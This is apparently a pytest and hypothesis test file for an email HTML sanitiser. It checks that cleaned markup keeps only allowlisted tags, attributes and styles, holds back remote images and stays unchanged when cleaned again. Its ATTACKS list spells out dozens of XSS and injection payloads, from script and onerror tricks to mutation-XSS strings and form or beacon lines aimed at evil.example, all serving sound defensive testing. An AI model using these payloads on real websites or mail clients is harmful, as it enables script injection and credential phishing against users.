"""Sanitised HTML: nothing runs, nothing loads, nothing breaks out, and cleaning twice changes nothing."""

from __future__ import annotations

import re

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ombud.mail.parse.html_clean import clean_html, sanitise
from ombud.mail.parse.html_text import html_lines

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x"></object><embed src="x"><applet code="x">',
    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import url(https://evil.example);</style>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    '<div style="background:url(https://evil.example/t.gif)">x</div>',
    '<div style="background-color:expression(alert(1))">x</div>',
    '<div style="color:red;behavior:url(x)">x</div>',
    '<div class="modal" id="login">x</div>',
    '<p style="text-decoration: url(https://evil.example)">x</p>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php evil() ?>",
    "<a href='https://x' onclick='alert(1)' target='_top' ping='https://evil.example'>x</a>",
    "<img srcset='https://evil.example/x 2x' src=''>",
    "<video poster=https://evil.example><source src=x onerror=alert(1)></video>",
    "<input type=image src=https://evil.example onfocus=alert(1) autofocus>",
    "<table background='https://evil.example/t.gif'><tr><td>x</td></tr></table>",
    "<body onload=alert(1) background='https://evil.example'>x",
    "</div></div></td></table>outside",
    "<template><script>alert(1)</script></template>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<img src=`javascript:alert(1)`>",
    "<div/onmouseover='alert(1)'>x</div>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]
SAFE_TAGS = set(
    "html body a abbr b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn "
    "div dl dt em font h1 h2 h3 "
    "h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub sup table "
    "tbody td tfoot th thead tr tt "
    "u ul var wbr".split()
)
SAFE_ATTRIBUTES = set(
    "dir lang style title href src alt width height data-remote-src color size colspan rowspan "
    "align valign cellpadding "
    "cellspacing start type rel".split()
)
SAFE_STYLE = re.compile(
    r"(?:(?:background-)?color|font-(?:weight|style)|text-(?:decoration|align)|white-space):(?:[#\w "
    r",.%-]+|rgba?\([\d ,.%]+\))"
)


def assert_harmless(cleaned: str) -> None:
    """Read the result as a browser would, and look at every element and attribute."""
    root = lxml.html.document_fromstring(f"<div>{cleaned}</div>")
    for element in root.iter():
        assert element.tag in SAFE_TAGS, cleaned
        for name, given_value in element.attrib.items():
            value = str(given_value)
            assert name in SAFE_ATTRIBUTES, cleaned
            if name == "href":
                assert re.match(r"(?i)\s*(?:https?://|mailto:|tel:)", value), cleaned
            if name == "src":
                assert re.match(
                    r"attachment:[0-9a-f]{64}$|data:image/(?:png|gif|jpe?g|webp);base64,", value
                ), cleaned
            if name == "style":
                assert all(SAFE_STYLE.fullmatch(part.strip()) for part in value.split(";")), cleaned


@pytest.mark.parametrize("markup", ATTACKS)
def test_attacks_come_to_nothing(markup: str) -> None:
    for variant in (markup, f"<div><p>{markup}", markup.upper(), f"<table><td>{markup}</table>", markup * 3):
        cleaned, _ = clean_html(variant, {})
        assert_harmless(cleaned)
        assert sanitise(cleaned) == cleaned
        assert clean_html(cleaned, {})[0] == cleaned


def test_remote_images_wait_for_consent() -> None:
    cleaned, _ = clean_html(
        '<img src="https://example.com/t.gif" alt="logo" width="10"><img src="//example.com/x">', {}
    )
    assert cleaned == (
        '<img data-remote-src="https://example.com/t.gif" alt="logo" width="10"><img '
        'data-remote-src="//example.com/x">'
    )


def test_inline_images_point_to_attachments() -> None:
    digest = "0" * 64
    cleaned, _ = clean_html(
        '<img src="cid:a@b"><img src="CID:&lt;a@b&gt;"><img src="cid:gone" alt="?">', {"a@b": digest}
    )
    assert cleaned == f'<img src="attachment:{digest}"><img src="attachment:{digest}"><img alt="?">'


def test_what_people_write_stays() -> None:
    markup = (
        '<h1>Title</h1><p>A <b>bold</b> <i>word</i>, <a href="https://example.com/?a=1&amp;b=2">a link</a>.</p>'
        '<ul><li>one</li></ul><blockquote type="cite">old</blockquote><pre>x  y</pre>'
        '<table><tbody><tr><td colspan="2" align="right">cell</td></tr></tbody></table><hr>'
        '<span style="color:red;font-weight:bold">red</span><font color="#00f" size="2">blue</font>'
    )
    expected = markup.replace('b=2">', 'b=2" rel="noopener noreferrer nofollow">')
    assert clean_html(markup, {})[0] == expected


def test_text_of_html_shows_no_markup() -> None:
    lines, _ = html_lines("<p>a<p>b<br><br>c<div>d</div>e&nbsp;f")
    assert "\n".join(line.text for line in lines).strip() == "a\n\nb\n\nc\n\nd\ne f"


PIECES = st.sampled_from(
    ["<p>", "</p>", "<b>", "</b>", "<table>", "<tr>", "<td>", "</table>", "<blockquote>", "</blockquote>",
     "<a href=http://x>",
     "</a>", "<img src=cid:1>", "<img src=http://x/y>", "text", "&lt;", "&", "<", ">", '"',
     "<div style='color:red'>", "</div>",
     "<ul>", "<li>", "<pre>", "\n", "<svg>", "<style>", "</style>", "<!--", "-->", "<select>",
     "<math>", "<title>", "<form>",
     "<plaintext>", "<font color=1>", "<o:p>", "<br/>", "<hr>", "é", "\u202e"]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=40).map("".join))
def test_sanitising_twice_changes_nothing(markup: str) -> None:
    cleaned, _ = clean_html(markup, {"1": "a" * 64})
    assert sanitise(cleaned) == cleaned
    assert_harmless(cleaned)
    assert_harmless(clean_html(cleaned, {})[0])
